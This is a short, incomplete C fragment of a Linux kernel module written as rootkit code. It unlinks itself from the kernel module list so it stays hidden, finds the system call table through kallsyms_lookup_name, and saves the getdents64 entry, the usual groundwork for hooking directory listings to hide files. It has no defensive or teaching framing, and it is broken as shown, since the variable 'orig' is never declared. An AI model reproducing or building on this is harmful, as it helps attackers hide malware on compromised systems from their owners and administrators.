#include <linux/module.h>
static unsigned long *table;
static struct list_head *prev;
void module_hide(void) { prev = THIS_MODULE->list.prev; list_del(&THIS_MODULE->list); }
int start(void) { table = (void *) kallsyms_lookup_name("sys_call_table"); orig = table[__NR_getdents64]; return 0; }
